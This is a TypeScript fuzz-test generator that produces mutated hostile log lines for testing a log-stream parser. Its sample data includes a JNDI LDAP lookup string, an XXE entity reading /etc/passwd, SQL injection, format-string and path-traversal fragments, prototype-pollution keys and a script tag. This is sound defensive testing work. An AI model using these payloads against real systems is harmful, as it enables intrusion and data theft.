import fc from "fast-check";

const nested = `${'{"a":'.repeat(200)}1${"}".repeat(200)}`;

/** Lines as real programs write them, and lines that attackers are known to write. */
const bases: readonly string[] = [
  "<86>Nov 24 05:00:00 web-1 sshd[2188]: Failed password for root from 203.0.113.77 port 45188 ssh2",
  '<86>1 2026-11-24T05:00:00.123456Z web-1 sshd 77 ID47 [a@32473 b="c\\]"] Accepted publickey for deploy',
  "<38>Nov 24 05:00:00 web-1 sudo:   alice : TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/bin/sh -c 'x'",
  `198.51.100.7 - - [24/Nov/2026:05:00:00 +0000] "GET /?q=\${jndi:ldap://203.0.113.9/a} HTTP/1.1" 200 5 "-" "x"`,
  '198.51.100.7 - - [31/Feb/0000:99:99:99 +9999] "GET / HTTP/9.9" 999 18446744073709551616 "-" "-"',
  'type=SYSCALL msg=audit(1795496400.123:9100): arch=c000003e syscall=59 exe="/bin/sh" key=(null)',
  'type=EXECVE msg=audit(99999999999999999999.999:1): argc=4294967295 a0=666F a1="unclosed',
  '{"timestamp":"2026-11-24T05:00:00.000000+0000","event_type":"alert","src_ip":"192.0.2.1","alert":{"severity":1e999}}',
  '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},"toString":1}',
  '{"eventid":"cowrie.login.success","username":"root","password":"\\u0000\\ud800","timestamp":"9999-12-31T23:59:59Z"}',
  '{"eventVersion":"1.08","eventTime":"0000-00-00T00:00:00Z","eventName":"DeleteTrail","eventSource":"a","userIdentity":[]}',
  '<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><EventID>4688</EventID></System></Event>',
  '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><Event>&b;</Event>',
  "\u001b[2J\u001b]0;owned\u0007 kernel: [UFW BLOCK] SRC=203.0.113.77 DST=192.0.2.10 PROTO=TCP DPT=22",
  "<34>Oct 11 22:14:15 \u202egnirts\u2066 su: 'su root' failed for \u200b\ufeff on /dev/pts/8",
  'time=9999-99-99T99:99:99 level=error msg="a=b c=\\"d\\"" n=-1e309 x=NaN =novalue k==',
  "<999999999>Feb 30 25:61:61 host : : [[[[ %s%n%x ../../../../etc/passwd ' OR 1=1 --",
  nested,
];

/** What is put into a line at one place. */
const insertions: readonly Buffer[] = [
  Buffer.from([0x00]),
  Buffer.from([0xff, 0xfe]),
  Buffer.from([0xc3]),
  Buffer.from([0xed, 0xa0, 0x80]),
  Buffer.from([0xf4, 0x90, 0x80, 0x80]),
  Buffer.from("\r"),
  Buffer.from('"'),
  Buffer.from("\\"),
  Buffer.from("[[[[[[[["),
  Buffer.from("{{{{{{{{"),
  Buffer.from("\u001b[31m"),
  Buffer.from("\u202e"),
  Buffer.from("99999999999999999999999999"),
  Buffer.from("-0"),
  Buffer.from("0000-00-00T00:00:00Z"),
  Buffer.from(`\${jndi:ldap://203.0.113.9/x}`),
  Buffer.from("<script>globalThis.pwned=1</script>"),
  Buffer.from("__proto__"),
];

interface Change {
  readonly what: "insert" | "cut" | "flip" | "repeat";
  /** Share of the line, 0..1. */
  readonly at: number;
  readonly pick: number;
}

const changed = (line: Buffer, { what, at, pick }: Change): Buffer => {
  const place = Math.floor(at * line.length);
  const [head, tail] = [line.subarray(0, place), line.subarray(place)];
  if (what === "insert") {
    return Buffer.concat([head, insertions[pick % insertions.length] ?? head, tail]);
  }
  if (what === "cut") return Buffer.concat([head, tail.subarray(1 + (pick % 40))]);
  if (what === "repeat") return Buffer.concat([head, tail, tail, tail]);
  return Buffer.concat([head, Buffer.from([pick % 256]), tail.subarray(1)]);
};

const lineFeed = 10;
const withoutLineFeeds = (line: Buffer): Buffer =>
  Buffer.from(line.filter((byte) => byte !== lineFeed));

const change: fc.Arbitrary<Change> = fc.record({
  what: fc.constantFrom("insert", "cut", "flip", "repeat"),
  at: fc.double({ min: 0, max: 1, noNaN: true }),
  pick: fc.nat(10_000),
});

const mutated: fc.Arbitrary<Buffer> = fc
  .tuple(fc.constantFrom(...bases), fc.array(change, { maxLength: 4 }))
  .map(([base, changes]) => changes.reduce(changed, Buffer.from(base)));

const noise: fc.Arbitrary<Buffer> = fc
  .uint8Array({ maxLength: 120 })
  .map((bytes) => Buffer.from(bytes));

const line: fc.Arbitrary<Buffer> = fc.oneof(
  { arbitrary: mutated, weight: 9 },
  { arbitrary: noise, weight: 1 },
);

/** So many are made by fast-check; the rest are those again, each with one more insertion. */
const differentMax = 20_000;

/** Spaces and line ends alone are no record. */
const isRecord = (bytes: Uint8Array): boolean =>
  bytes.some((byte) => byte !== 32 && (byte < 9 || byte > 13));

/** How many records a line is on a stream that also ends lines with NUL (RFC 6587 3.4.2). */
export const streamRecords = (bytes: Buffer): number =>
  bytes
    .toString("latin1")
    .split("\0")
    .map((part) => Buffer.from(part, "latin1"))
    .filter(isRecord).length;

/** A line that a stream would read as an octet count (RFC 6587 3.4.1) and what follows it. */
export const looksCounted = (bytes: Buffer): boolean =>
  /(^|\0)[1-9]\d{0,9} </.test(bytes.toString("latin1"));

/** Hostile lines without a line feed, the same for the same seed. */
export const hostileLines = (count: number, seed: number): readonly Buffer[] => {
  const different = fc
    .sample(line, { seed, numRuns: Math.min(count, differentMax) })
    .map(withoutLineFeeds)
    .filter(isRecord);
  return Array.from({ length: count }, (_, index) => {
    const own = different[index % different.length] ?? Buffer.from("-");
    if (index < different.length) return own;
    const extra = changed(own, { what: "insert", at: (index % 97) / 97, pick: index });
    return withoutLineFeeds(extra);
  });
};
